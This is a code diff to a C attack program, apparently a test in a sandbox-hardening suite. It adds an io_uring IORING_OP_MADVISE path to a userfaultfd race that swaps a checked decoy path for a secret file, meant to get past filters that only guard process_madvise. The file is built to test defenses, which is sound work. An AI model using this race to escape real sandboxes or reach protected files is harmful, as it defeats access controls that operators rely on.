@@ -20,9 +20,15 @@
  * buffer (decoy <-> secret): natively (no tracer, no area: the register fails) that is what
  * reaches the secret (the control).
  *
- *   area_uffd_refill SECRET DECOY   (absolute paths of the same length)
+ * "ring" (close 24): the zapper is an io_uring's IORING_OP_MADVISE(MADV_DONTNEED) instead --
+ * the same drop, its range in a submission queue entry no filter reads, where a rule permits
+ * io-uring (review 52: ESCAPED on main after process_madvise's guard); the area sealed
+ * (mseal) refuses it (EPERM), whatever the door.
+ *
+ *   area_uffd_refill SECRET DECOY [ring]   (absolute paths of the same length)
  */
 #include "attack.h"
+#include <linux/io_uring.h>
 #include <linux/userfaultfd.h>
 #include <poll.h>
 #include <sys/ioctl.h>
@@ -42,6 +48,63 @@ static volatile int done, registered;
 static int uffd = -1, pidfd = -1;
 static volatile unsigned long faults, zaps;
 static volatile int zap_error;  /* (the errno of the zapper's last refused advice) */
+
+/* The ring of "ring" mode, set up before the threads: its submission and completion rings. */
+static int ring_fd = -1;
+static char *sq, *cq;
+static struct io_uring_sqe *sqes;
+static struct io_uring_params rp;
+
+static int ring_setup(void) {
+    memset(&rp, 0, sizeof rp);
+    ring_fd = (int)syscall(SYS_io_uring_setup, SLOTS, &rp);
+    if (ring_fd < 0) return -errno;
+    size_t sq_size = rp.sq_off.array + rp.sq_entries * sizeof(unsigned);
+    size_t cq_size = rp.cq_off.cqes + rp.cq_entries * sizeof(struct io_uring_cqe);
+    if (rp.features & IORING_FEAT_SINGLE_MMAP && cq_size > sq_size) sq_size = cq_size;
+    sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
+              IORING_OFF_SQ_RING);
+    cq = sq;
+    if (!(rp.features & IORING_FEAT_SINGLE_MMAP))
+        cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
+                  IORING_OFF_CQ_RING);
+    sqes = mmap(NULL, rp.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
+                MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
+    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -errno;
+    return 0;
+}
+
+/* IORING_OP_MADVISE(MADV_DONTNEED) of the first page of each of the first slots, by the ring:
+ * 0 when each was done, else the first failure's -errno. */
+static int ring_zap(void) {
+    unsigned *tail = (unsigned *)(sq + rp.sq_off.tail);
+    unsigned mask = *(unsigned *)(sq + rp.sq_off.ring_mask);
+    unsigned t = *tail;
+    for (int s = 0; s < SLOTS; s++, t++) {
+        unsigned idx = t & mask;
+        memset(&sqes[idx], 0, sizeof sqes[idx]);
+        sqes[idx].opcode = IORING_OP_MADVISE;
+        sqes[idx].addr = BASE + s * SLOT;
+        sqes[idx].len = (unsigned)PAGE;
+        sqes[idx].fadvise_advice = MADV_DONTNEED;
+        ((unsigned *)(sq + rp.sq_off.array))[idx] = idx;
+    }
+    __atomic_store_n(tail, t, __ATOMIC_RELEASE);
+    if (syscall(SYS_io_uring_enter, ring_fd, SLOTS, SLOTS, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+        return -errno;
+    unsigned *head = (unsigned *)(cq + rp.cq_off.head);
+    unsigned cmask = *(unsigned *)(cq + rp.cq_off.ring_mask);
+    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + rp.cq_off.cqes);
+    int result = 0;
+    for (int s = 0; s < SLOTS; s++) {
+        while (*head == __atomic_load_n((unsigned *)(cq + rp.cq_off.tail), __ATOMIC_ACQUIRE))
+            ;
+        int res = cqes[*head & cmask].res;
+        if (res < 0 && !result) result = res;
+        __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
+    }
+    return result;
+}
 
 static void *flip(void *unused) {
     (void)unused;
@@ -82,8 +145,15 @@ static void *zapper(void *unused) {
     }
     while (!registered && !done) usleep(1000);
     while (!done) {
-        if (syscall(SYS_process_madvise, pidfd, v, SLOTS, MADV_DONTNEED, 0) >= 0) zaps++;
-        else zap_error = errno;
+        if (ring_fd >= 0) {
+            int r = ring_zap();
+            if (r == 0) zaps++;
+            else zap_error = -r;
+        } else if (syscall(SYS_process_madvise, pidfd, v, SLOTS, MADV_DONTNEED, 0) >= 0) {
+            zaps++;
+        } else {
+            zap_error = errno;
+        }
         /* (and faulted in again at once, the secret's page: a page left missing is one the
          * tracer's next write fails on -- its write cannot wait for the handler) */
         for (int s = 0; s < SLOTS; s++) (void)*(volatile char *)(BASE + s * SLOT + PATH1);
@@ -92,9 +162,15 @@ static void *zapper(void *unused) {
 }
 
 int main(int argc, char **argv) {
-    if (argc != 3) usage("area_uffd_refill SECRET DECOY");
+    if (argc != 3 && (argc != 4 || strcmp(argv[3], "ring")))
+        usage("area_uffd_refill SECRET DECOY [ring]");
     secret = argv[1];
     decoy = argv[2];
+    if (argc == 4) {
+        int r = ring_setup();
+        if (r < 0 && !tracer_pid()) skipped("no io_uring here: %s", ename(-r));
+        if (r < 0) blocked("io_uring_setup: %s", ename(-r));
+    }
     memcpy(path, decoy, strlen(decoy) + 1);
     pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
     pthread_t f, h, z;
@@ -133,7 +209,8 @@ int main(int argc, char **argv) {
         close(fd);
     }
     done = 1;
-    note("process_madvise(MADV_DONTNEED) of the area: %s",
+    note("%s(MADV_DONTNEED) of the area: %s",
+         ring_fd >= 0 ? "IORING_OP_MADVISE" : "process_madvise",
          zaps ? "ok" : zap_error ? ename(zap_error) : "never ran");
     blocked("20000 opens: %d refused, %d not the secret (%lu faults, %lu zaps)", refused, other,
             faults, zaps);
